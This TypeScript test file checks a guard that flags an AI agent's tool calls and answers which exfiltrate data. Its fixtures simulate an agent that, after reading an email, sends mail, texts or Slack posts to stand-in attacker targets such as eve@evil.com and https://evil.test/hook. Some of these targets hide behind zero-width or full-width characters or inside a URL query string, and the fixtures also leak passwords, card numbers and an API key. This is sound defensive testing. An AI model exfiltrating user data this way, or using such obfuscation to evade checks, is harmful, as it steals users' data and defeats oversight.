/**
 * The rules compare whole values: an address, URL or number the user gave is exempt, a part of one is not
 * (`alice@bank.co` is not `alice@bank.com`, a phone number is not any run of the request's digits); every text is
 * read normalised, so a zero-width or full-width character cannot hide an address or a secret from the rules.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { givenBy, isGiven, numbersIn, rulesCheck } from '../src/s3/checks/rules.ts';
import type { StageEvent } from '../src/s3/event.ts';
import { filterReason } from '../src/s3/filter.ts';
import { loadSkill } from '../src/s3/skill-file.ts';
import type { ChatBackend, ChatMessage } from '../src/guard/types.ts';
import { repoRoot } from './helpers/shared.ts';

const toolRules = loadSkill(join(repoRoot, 'skills', 'tool-rules'));
const outputLeak = loadSkill(join(repoRoot, 'skills', 'output-leak'));
const env = { backend: { name: 'none', callFormat: 'llama3', chat: () => Promise.reject(new Error('no model')) } as ChatBackend };
const readMail: ChatMessage[] = [
  { role: 'assistant', content: '', tool_calls: [{ id: 'r', type: 'function', function: { name: 'GmailReadEmail', arguments: '{}' } }] },
  { role: 'tool', tool_call_id: 'r', name: 'GmailReadEmail', content: 'Quarterly figures attached.' },
];
const send = (request: string, name: string, args: Record<string, unknown>): StageEvent => ({
  stage: 'tool_selection', tools: [], calls: [{ id: 'c', name, arguments: args }],
  messages: [{ role: 'user', content: request }, ...readMail],
});
const fires = async (e: StageEvent) => (await rulesCheck(toolRules, e, env)).risky;

test('exfiltration rule: an address that is only a part of one in the request is not given; the whole one is, in any case', async () => {
  const req = 'Read my latest email and forward it to alice@bank.com.';
  assert.equal(await fires(send(req, 'GmailSendEmail', { to: 'alice@bank.co' })), true, 'a prefix of the address');
  assert.equal(await fires(send(req, 'GmailSendEmail', { to: 'ice@bank.com' })), true, 'a suffix of the address');
  assert.equal(await fires(send(req, 'GmailSendEmail', { to: 'alice@bank.com' })), false);
  assert.equal(await fires(send(req, 'GmailSendEmail', { to: 'Alice@Bank.COM' })), false);
  // URLs: scheme, host and path whole
  const up = 'Read my latest email and upload it to https://docs.example.com/share/team-a';
  assert.equal(await fires(send(up, 'DriveUploadFile', { url: 'https://docs.example.com/share/team' })), true);
  assert.equal(await fires(send(up, 'DriveUploadFile', { url: 'HTTPS://Docs.Example.com/share/team-a' })), false);
  assert.equal(await fires(send(up, 'DriveUploadFile', { url: 'https://docs.example.com/share/team-a?copy=https://evil.test' })), true);
});

test('exfiltration rule: a phone number is given only as a whole number of the request, however it is grouped', async () => {
  const req = 'Read my latest email (order 99555123456799) and text the gist to my phone.';
  assert.equal(await fires(send(req, 'SmsSendMessage', { to: '555-123-4567' })), true, 'digits inside a longer number of the request');
  const mine = 'Read my latest email and text the gist to +1 (555) 123-4567.';
  assert.equal(await fires(send(mine, 'SmsSendMessage', { to: '+1 555 123 4567' })), false);
  assert.equal(await fires(send(mine, 'SmsSendMessage', { to: '+15551234567' })), false);
  assert.equal(await fires(send(mine, 'SmsSendMessage', { to: '+1 555 123 4568' })), true);
  assert.ok(numbersIn('card 4111 1111 1111 1111 123').has('4111111111111111'), 'a number and the one written after it are two');
  assert.ok(!numbersIn('order 99555123456799').has('5551234567'));
});

test('secrets: a secret the user wrote is exempt only whole; a longer one does not exempt its prefix', async () => {
  const given = givenBy('My old password is hunter22, card 4111-1111-1111-1111.');
  assert.equal(isGiven('password is hunter22', given), true);
  assert.equal(isGiven('password is hunter2', given), false);
  assert.equal(isGiven('4111 1111 1111 1111', given), true);
  const call = (request: string) => send(request, 'GmailSendEmail', { to: 'bob@corp.com', body: 'the password is hunter2' });
  assert.equal((await rulesCheck(toolRules, call('Email bob@corp.com that my password is hunter22 now.'), env)).evidence.includes('password is hunter2'), true);
  // a card number whose digits sit inside a longer number of the request is not given
  const answer = (request: string): StageEvent => ({ stage: 'output', tools: [], messages: [{ role: 'user', content: request }], answer: 'Your card: 4111 1111 1111 1111.' });
  assert.equal((await rulesCheck(outputLeak, answer('Look up reference 9941111111111111111190 for me.'), env)).risky, true);
  assert.equal((await rulesCheck(outputLeak, answer('Is 4111 1111 1111 1111 my card?'), env)).risky, false);
});

test('rules read normalised text: a zero-width or full-width character hides no address and no secret', async () => {
  const req = 'Read my latest email and forward it to alice@bank.com.';
  assert.equal(await fires(send(req, 'GmailSendEmail', { to: 'eve@evil\u200B.com' })), true, 'zero-width space inside the domain');
  assert.equal(await fires(send(req, 'GmailSendEmail', { to: 'eve\uFF20evil.com' })), true, 'full-width @');
  assert.equal(await fires(send(req, 'GmailSendEmail', { to: 'alice@bank.com\u00AD' })), false, 'a soft hyphen does not make a new address');
  // a tool name: the trigger globs and the filter read it normalised too
  const hidden = send(req, 'SlackPo\u200Bst', { channel: 'https://evil.test/hook' });
  assert.equal(await fires(hidden), true);
  assert.equal(filterReason(toolRules.filter, hidden), null);
  const leak: StageEvent = { stage: 'output', tools: [], messages: [{ role: 'user', content: 'What is in my vault?' }], answer: 'It holds s\u200Bk-live-9f8e7d6c5b4a3f2e1d.' };
  assert.equal((await rulesCheck(outputLeak, leak, env)).risky, true);
});
